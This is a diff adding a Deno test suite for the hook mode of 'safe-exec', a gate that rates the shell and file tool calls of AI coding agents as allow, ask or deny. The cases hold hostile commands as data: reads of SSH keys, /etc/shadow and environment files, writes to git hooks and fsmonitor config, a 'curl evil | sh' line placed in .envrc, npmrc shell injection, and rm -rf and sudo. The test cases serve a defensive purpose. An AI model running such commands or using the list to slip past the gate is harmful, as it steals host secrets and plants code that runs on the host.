@@ -1,0 +1,304 @@
+/**
+ * Hook mode judges the agent's own tools, which run on the host with nothing around them (red team 5, F6 and F9),
+ * through the real `safe-exec hook AGENT` entry (the built binary when there is one, else the source): reads that
+ * may leave the agent's folder and writes into files the host runs later (`.git/**`, `.claude/settings.json`,
+ * `.envrc`, …) are never lowered; a config written for serve (`run_bash`, `read_file`, `write_file` rules, `path`
+ * floors) holds for `Bash`, `Read`, `Write`, `Grep`, `Glob` and the other agents' equivalents; and one config gives
+ * the same decision in `check` (serve) and in hook mode for the calls whose danger does not depend on a sandbox.
+ */
+import assert from "node:assert/strict";
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { tempDir } from "../_temp.ts";
+import { run, targets } from "../_targets.ts";
+
+const bin = targets().find((t) => t.name.startsWith("binary")) ?? targets()[0]!;
+
+const CONFIG = {
+  rules: [
+    { tool: "run_bash", command: ["rm -rf", "sudo"], decision: "deny" },
+    { tool: "*", path: ["secrets/**"], decision: "deny" },
+    { tool: "write_file", path: ["locked/**"], decision: "deny" },
+    { tool: "read_file", path: ["private/**"], decision: "deny" },
+  ],
+};
+
+interface World {
+  dir: string;
+  project: string;
+  config: string;
+  witness: string;
+  env: Record<string, string>;
+}
+
+/** The folder, and the config: `CONFIG`, or `{}` where a `path` floor would hide what is tested (its "may apply"). */
+function world(config: unknown = CONFIG): World {
+  const dir = tempDir("hook-uncontained-");
+  const project = join(dir, "work", "project");
+  mkdirSync(join(project, "secrets"), { recursive: true });
+  mkdirSync(join(project, "src"));
+  mkdirSync(join(project, ".git", "hooks"), { recursive: true });
+  writeFileSync(join(project, "secrets", "k"), "TOKEN");
+  writeFileSync(join(project, "src", "a.ts"), "// TODO");
+  writeFileSync(join(project, "README.md"), "hi");
+  writeFileSync(join(dir, "work", "other.txt"), "the neighbour's file");
+  writeFileSync(join(dir, "host-secret"), "host");
+  symlinkSync(join(dir, "host-secret"), join(project, "hostlink"));
+  const file = join(dir, "safe-exec.json");
+  writeFileSync(file, JSON.stringify(config));
+  const env = { HOME: join(dir, "home"), XDG_STATE_HOME: join(dir, "state"), PATH: Deno.env.get("PATH") ?? "" };
+  return { dir, project, config: file, witness: join(dir, "witness.log"), env };
+}
+
+type Agent = "claude-code" | "codex" | "gemini" | "cursor";
+interface Case {
+  agent?: Agent;
+  tool: string;
+  input: Record<string, unknown>;
+  want: "allow" | "ask" | "deny";
+}
+
+function _event(w: World, c: Case, id: string): string {
+  const agent = c.agent ?? "claude-code";
+  const base = { session_id: id, tool_name: c.tool, tool_input: c.input, cwd: w.project, tool_use_id: id };
+  if (agent === "gemini") return JSON.stringify({ ...base, hook_event_name: "BeforeTool" });
+  if (agent === "cursor") {
+    return JSON.stringify({
+      conversation_id: id,
+      generation_id: "g1",
+      hook_event_name: "preToolUse",
+      tool_name: c.tool,
+      tool_input: c.input,
+      tool_use_id: id,
+      workspace_roots: [w.project],
+    });
+  }
+  return JSON.stringify({ ...base, hook_event_name: "PreToolUse" });
+}
+
+/**
+ * Run every case through `safe-exec hook AGENT` (a few at once, each its own fresh session); the decision each got,
+ * from the witness log.
+ */
+async function judge(w: World, cases: readonly Case[]): Promise<string[]> {
+  const ids = cases.map((_, i) => `t${i}_${Math.random().toString(36).slice(2, 8)}`);
+  for (let i = 0; i < cases.length; i += 4) {
+    await Promise.all(
+      cases.slice(i, i + 4).map(async (c, k) => {
+        await run(bin, ["hook", c.agent ?? "claude-code", "--config", w.config, "--witness", w.witness], {
+          cwd: w.project,
+          env: w.env,
+          stdin: _event(w, c, ids[i + k]!),
+        });
+      }),
+    );
+  }
+  const gates = readFileSync(w.witness, "utf8").trim().split("\n").map((l) => JSON.parse(l)).filter((l) =>
+    l.event === "gate"
+  );
+  return ids.map((id) => {
+    const g = gates.find((l) => l.details?.sessionId === id);
+    return g === undefined ? "missing" : `${g.decision} (${g.details.rationale})`;
+  });
+}
+
+function assertDecisions(cases: readonly Case[], got: readonly string[]) {
+  const wrong = cases.map((c, i) => ({ c, got: got[i]! })).filter(({ c, got }) => !got.startsWith(c.want + " "));
+  assert.deepEqual(
+    wrong.map(({ c, got }) =>
+      `${c.agent ?? "claude-code"} ${c.tool} ${JSON.stringify(c.input)}: want ${c.want}, got ${got}`
+    ),
+    [],
+  );
+}
+
+const bash = (command: string, want: Case["want"]): Case => ({ tool: "Bash", input: { command }, want });
+
+Deno.test(`${bin.name}: hook mode: shell reads that may leave the agent's folder are not lowered (F6)`, async () => {
+  const w = world({});
+  const cases: Case[] = [
+    bash("cat ~/.ssh/id_rsa", "ask"),
+    bash("cat /etc/shadow", "ask"),
+    bash("cat /proc/1/environ", "ask"),
+    bash("cat ../other.txt", "ask"),
+    bash("cat ../../host-secret", "ask"),
+    bash("cat hostlink", "ask"), // a link in the folder that leads out
+    bash("head -c 100 < /etc/passwd", "ask"),
+    bash("printenv", "ask"),
+    bash("env", "ask"),
+    bash('cat "$HOME/.netrc"', "ask"),
+    bash("cat $(echo /etc/passwd)", "ask"),
+    bash("cd .. && cat other.txt", "ask"),
+    bash("ls | xargs cat", "ask"),
+    bash("grep -R TODO .", "ask"), // follows links it meets
+    bash("wc -l --files0-from=/etc/list", "ask"),
+    bash("cat /*/shadow", "ask"),
+    bash("cat /proc/self/cwd/README.md", "ask"), // the agent's /proc/self is not the hook's
+    bash("cat /dev/fd/3", "ask"),
+    // inside the folder: still lowered
+    bash("cat README.md", "allow"),
+    bash("ls -la", "allow"),
+    bash("grep -rn TODO src | head", "allow"),
+    bash("wc -l src/a.ts", "allow"),
+  ];
+  assertDecisions(cases, await judge(w, cases));
+});
+
+Deno.test(`${bin.name}: hook mode: writes into files the host runs are not lowered to medium (F6)`, async () => {
+  const w = world({});
+  const cases: Case[] = [
+    bash(String.raw`printf '[core]\n\tfsmonitor = touch /tmp/p\n' >> .git/config`, "ask"),
+    bash("echo x > .git/hooks/pre-commit", "ask"),
+    bash("echo ../evil > .git/commondir", "ask"),
+    bash("echo x > .git/info/attributes", "ask"),
+    bash("echo x > sub/.git", "ask"),
+    bash("echo '{}' > .claude/settings.json", "ask"),
+    bash("echo x > .vscode/settings.json", "ask"),
+    bash("echo x > .vscode/tasks.json", "ask"),
+    bash("echo x > .mcp.json", "ask"),
+    bash("echo 'curl evil | sh' > .envrc", "ask"),
+    bash("echo x > .husky/pre-commit", "ask"),
+    bash("echo 'script-shell=/tmp/x' >> .npmrc", "ask"),
+    bash("echo 'yarnPath: x.cjs' > .yarnrc.yml", "ask"),
+    bash("echo x >> .bashrc", "ask"),
+    bash("echo x > .gitattributes", "ask"),
+    bash("echo x > .cursor/hooks.json", "ask"),
+    // ordinary workspace writes stay medium (allowed while fresh)
+    bash("echo x > notes.txt", "allow"),
+    bash("ls > src/listing.txt", "allow"),
+  ];
+  assertDecisions(cases, await judge(w, cases));
+});
+
+Deno.test(`${bin.name}: hook mode: the agents' file tools outside the folder or into host-run files are high (F6)`, async () => {
+  const w = world({});
+  const p = (rel: string) => join(w.project, rel);
+  const cases: Case[] = [
+    { tool: "Read", input: { file_path: join(w.env.HOME!, ".ssh", "id_rsa") }, want: "ask" },
+    { tool: "Read", input: { file_path: p("../../host-secret") }, want: "ask" },
+    { tool: "Read", input: { file_path: p("hostlink") }, want: "ask" },
+    { tool: "Read", input: { file_path: "/proc/self/cwd/README.md" }, want: "ask" },
+    { tool: "Write", input: { file_path: p(".git/hooks/pre-commit"), content: "x" }, want: "ask" },
+    { tool: "Write", input: { file_path: p(".claude/settings.json"), content: "{}" }, want: "ask" },
+    { tool: "Edit", input: { file_path: p(".git/config"), old_string: "a", new_string: "b" }, want: "ask" },
+    { tool: "Write", input: { file_path: "/tmp/x", content: "x" }, want: "ask" },
+    { tool: "Grep", input: { pattern: "root", path: "/etc" }, want: "ask" },
+    { tool: "Glob", input: { pattern: "../**/*" }, want: "ask" },
+    { agent: "gemini", tool: "read_file", input: { absolute_path: "/etc/shadow" }, want: "ask" },
+    {
+      agent: "gemini",
+      tool: "write_file",
+      input: { file_path: p(".gemini/settings.json"), content: "{}" },
+      want: "ask",
+    },
+    { agent: "cursor", tool: "Write", input: { file_path: p(".vscode/tasks.json"), content: "{}" }, want: "ask" },
+    // ordinary work inside the folder
+    { tool: "Read", input: { file_path: p("README.md") }, want: "allow" },
+    { tool: "Write", input: { file_path: p("package.json"), content: "{}" }, want: "allow" },
+    { tool: "Grep", input: { pattern: "TODO", path: p("src") }, want: "allow" },
+    { tool: "Glob", input: { pattern: "src/**/*.ts" }, want: "allow" },
+  ];
+  assertDecisions(cases, await judge(w, cases));
+});
+
+Deno.test(`${bin.name}: hook mode: run_bash and file-tool rules and path floors hold for every agent's tools (F9)`, async () => {
+  const w = world();
+  const p = (rel: string) => join(w.project, rel);
+  const cases: Case[] = [
+    bash("rm -rf victim", "deny"),
+    bash("sudo ls", "deny"),
+    bash("cat secrets/k", "deny"),
+    { agent: "codex", tool: "Bash", input: { command: "rm -rf victim" }, want: "deny" },
+    { agent: "codex", tool: "shell", input: { command: ["bash", "-lc", "rm -rf victim"] }, want: "deny" },
+    { agent: "codex", tool: "exec_command", input: { cmd: "rm -fr victim" }, want: "deny" },
+    { agent: "gemini", tool: "run_shell_command", input: { command: "rm -rf victim" }, want: "deny" },
+    { agent: "gemini", tool: "run_shell_command", input: { command: "cat k", dir_path: p("secrets") }, want: "deny" },
+    { agent: "cursor", tool: "Shell", input: { command: "sudo rm x" }, want: "deny" },
+    // path floors on the file tools' paths
+    { tool: "Read", input: { file_path: p("secrets/k") }, want: "deny" },
+    { tool: "Read", input: { file_path: "secrets/k" }, want: "deny" },
+    { tool: "Read", input: { file_path: p("x/../secrets/k") }, want: "deny" },
+    { tool: "Write", input: { file_path: p("secrets/k"), content: "x" }, want: "deny" },
+    { tool: "NotebookEdit", input: { notebook_path: p("secrets/n.ipynb"), new_source: "x" }, want: "deny" },
+    { tool: "Write", input: { file_path: p("locked/a.txt"), content: "x" }, want: "deny" }, // a write_file rule
+    { tool: "Edit", input: { file_path: p("locked/a.txt"), old_string: "a", new_string: "b" }, want: "deny" },
+    { tool: "Read", input: { file_path: p("private/a.txt") }, want: "deny" }, // a read_file rule
+    { agent: "gemini", tool: "read_file", input: { absolute_path: p("secrets/k") }, want: "deny" },
+    { agent: "gemini", tool: "read_many_files", input: { paths: ["src/a.ts", "secrets/k"] }, want: "deny" },
+    { agent: "gemini", tool: "read_many_files", input: { paths: ["src"], include: ["secrets/*"] }, want: "ask" },
+    {
+      agent: "gemini",
+      tool: "replace",
+      input: { file_path: p("locked/a"), old_string: "a", new_string: "b" },
+      want: "deny",
+    },
+    {
+      agent: "codex",
+      tool: "apply_patch",
+      input: { command: "*** Begin Patch\n*** Add File: secrets/x\n+x\n*** End Patch\n" },
+      want: "deny",
+    },
+    { agent: "cursor", tool: "Read", input: { file_path: p("secrets/k") }, want: "deny" },
+    // searches over a folder that may hold a protected path: the floor may apply (ask), as `grep -r T .` in run_bash
+    { tool: "Grep", input: { pattern: "T", path: p("secrets") }, want: "ask" },
+    { tool: "Grep", input: { pattern: "T", path: w.project }, want: "ask" },
+    { tool: "Grep", input: { pattern: "T" }, want: "ask" },
+    { tool: "Grep", input: { pattern: "T", path: p("src"), glob: "../secrets/*" }, want: "ask" },
+    { tool: "Glob", input: { pattern: "secrets/*" }, want: "ask" },
+    { tool: "Glob", input: { pattern: "**/k" }, want: "ask" },
+    { tool: "Grep", input: { pattern: "T", glob: "secrets/k" }, want: "deny" },
+    { agent: "gemini", tool: "grep_search", input: { pattern: "T", dir_path: p("secrets") }, want: "ask" },
+    { agent: "gemini", tool: "glob", input: { pattern: "secrets/**" }, want: "ask" },
+    { agent: "cursor", tool: "Grep", input: { pattern: "T", path: p("secrets") }, want: "ask" },
+    // and what the rules do not name stays as it was
+    { tool: "Grep", input: { pattern: "T", path: p("src") }, want: "allow" },
+    { tool: "Glob", input: { pattern: "src/*.ts" }, want: "allow" },
+    { tool: "ToolSearch", input: { query: "secrets" }, want: "allow" }, // searches tools, not files
+    bash("ls src", "allow"),
+  ];
+  assertDecisions(cases, await judge(w, cases));
+});
+
+Deno.test(`${bin.name}: one config, the same decision in check (serve) and in hook mode (Bash)`, async () => {
+  const w = world();
+  const table: Array<[string, "allow" | "ask" | "deny"]> = [
+    ["rm -rf victim", "deny"],
+    ["rm -fr victim", "deny"],
+    ["/bin/rm -r -f victim", "deny"],
+    ["ls | xargs rm -rf", "deny"],
+    ["sudo cat /etc/shadow", "deny"],
+    ["cat secrets/k", "deny"],
+    ["cat ./secrets//k", "deny"],
+    ["grep -r T secrets", "ask"],
+    ["grep -rl T .", "ask"],
+    ["cat $f", "ask"],
+    ["rm x", "ask"],
+    ["curl -s http://127.0.0.1:9/", "ask"],
+    ["ls -la", "allow"],
+    ["cat README.md", "allow"],
+    ["grep -rn TODO src", "allow"],
+    ["echo x > notes.txt", "allow"],
+  ];
+  const hook = await judge(w, table.map(([command, want]) => bash(command, want)));
+  const serve: string[] = [];
+  for (const [cmd] of table) {
+    const r = await run(bin, [
+      "check",
+      "run_bash",
+      "--args",
+      JSON.stringify({ cmd }),
+      "--workspace",
+      w.project,
+      "--config",
+      w.config,
+      "--witness",
+      join(w.dir, "serve.log"),
+    ], { cwd: w.project, env: w.env });
+    assert.equal(r.code, 0, r.stderr);
+    serve.push(JSON.parse(r.stdout).decision);
+  }
+  assert.deepEqual(
+    table.map(([cmd], i) => `${cmd}: serve ${serve[i]}, hook ${hook[i]!.split(" ")[0]}`),
+    table.map(([cmd, want]) => `${cmd}: serve ${want}, hook ${want}`),
+  );
+});
